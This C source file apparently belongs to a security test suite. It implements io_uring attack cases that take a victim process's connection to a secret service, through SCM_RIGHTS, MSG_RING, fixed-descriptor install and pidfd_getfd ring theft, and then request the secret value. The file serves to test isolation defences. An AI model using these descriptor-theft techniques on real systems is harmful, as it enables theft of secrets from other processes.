/* SPDX-License-Identifier: BSD-2-Clause */
/* The same descriptors through io_uring, whose files need no number in a process. */
#include <errno.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "client.h"
#include "ring.h"
#include "victim.h"

static int opened(struct ring *ring)
{
    int fd = ring_open(ring);

    if (fd == -ENOSYS)
        return attack_absent("no io_uring");
    return fd < 0 ? (errno = -fd, attack_errno("io_uring_setup")) : 0;
}

/* SCM_RIGHTS, received by a ring. */
static int received(const struct attack_context *context)
{
    struct ring ring;
    _Alignas(struct cmsghdr) char control[CMSG_SPACE(sizeof(int))];
    char byte;
    int fd = -1, word = opened(&ring);
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = sizeof control};

    if (word)
        return word;
    int door = victim_ask(context->plain, VICTIM_LEND_SOCKET, -1);
    struct io_uring_sqe request = {
        .opcode = IORING_OP_RECVMSG, .fd = door, .addr = (uintptr_t)&message, .len = 1};
    int result = ring_do(&ring, &request);
    if (result < 0)
        return errno = -result, attack_errno("recvmsg");
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    if (!c || c->cmsg_type != SCM_RIGHTS || c->cmsg_len < CMSG_LEN(sizeof fd))
        return -EACCES;
    memcpy(&fd, CMSG_DATA(c), sizeof fd);
    return attack_read_value(fd);
}

/* The value, asked for on what is in slot 0. */
static int ask_through(struct ring *ring)
{
    static const char request[] = "GET /v1/value HTTP/1.1\r\nHost: vsecm\r\n\r\n";
    char answer[4096] = "";
    int done = ring_send(ring, request, sizeof request - 1);

    if (done < 0)
        return errno = -done, attack_errno("send");
    done = ring_receive(ring, answer, sizeof answer - 1);
    if (done < 0)
        return errno = -done, attack_errno("recv");
    return strstr(answer, WORLD_VALUE) ? 0 : attack_failed("not the value");
}

static int order(const struct attack_context *context, char letter, const int *send_numbers)
{
    int number = -EPROTO, door = victim_ask(context->plain, letter, -1);

    if (door < 0)
        return door;
    client_take(door, 0, NULL);
    if (send_numbers && send(door, send_numbers, 2 * sizeof(int), MSG_NOSIGNAL) < 0)
        number = -errno;
    else if (recv(door, &number, sizeof number, MSG_WAITALL) != (ssize_t)sizeof number)
        number = -EPROTO;
    close(door);
    return number;
}

/* An accomplice puts the connection into the attacker's ring (IORING_OP_MSG_RING). */
static int handed_over(const struct attack_context *context, struct ring *ring)
{
    int word = opened(ring);

    if (word)
        return word;
    if (ring_register(ring, -1) < 0)
        return attack_errno("register");
    int done = order(context, VICTIM_RING, (int[]){getpid(), ring->fd});
    return done < 0 ? (errno = -done, attack_errno("msg_ring")) : 0;
}

static int slotted(const struct attack_context *context)
{
    struct ring ring;
    int word = handed_over(context, &ring);

    return word ? word : ask_through(&ring);
}

/* And makes a descriptor of it. */
static int installed(const struct attack_context *context)
{
    struct ring ring;
    int word = handed_over(context, &ring);

    if (word)
        return word;
    int fd = ring_install(&ring);
    if (fd == -EINVAL)
        return attack_absent("no IORING_OP_FIXED_FD_INSTALL before 6.8");
    return fd < 0 ? (errno = -fd, attack_errno("fixed_fd_install")) : attack_read_value(fd);
}

/* The ring of a victim that keeps its connection there, taken with pidfd_getfd(). */
static int stolen(const struct attack_context *context)
{
    struct ring own, ring;
    int word = opened(&own); /* for the layout of a ring */

    if (word)
        return word;
    int number = order(context, VICTIM_HOLD, NULL);
    if (number < 0)
        return attack_failed("the victim's ring: %s", strerror(-number));
    int process = (int)syscall(SYS_pidfd_open, context->plain->pid, 0);
    int fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);
    if (fd < 0)
        return attack_errno("pidfd_getfd");
    if (ring_map(&ring, fd) < 0)
        return attack_errno("mmap");
    return ask_through(&ring);
}

static const struct attack table[] = {
    {"uring-recvmsg",
     "the victim's connection, received by a ring",
     received,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OFF,
     0,
     NULL},
    {"uring-msg-ring",
     "the victim's connection, put into the attacker's ring",
     slotted,
     {OPEN, OPEN},
     {OPEN, OPEN},
     CONTROL_OFF,
     0,
     NULL},
    {"uring-fd-install",
     "the same, made a descriptor",
     installed,
     {US, US},
     {OPEN, OPEN},
     CONTROL_OFF,
     0,
     NULL},
    {"uring-stolen-ring",
     "the connection that is in the victim's own ring",
     stolen,
     {OPEN, OPEN},
     {OPEN, OPEN},
     CONTROL_OFF,
     0,
     NULL},
};

const struct attack_table attack_uring = {table, sizeof table / sizeof *table};
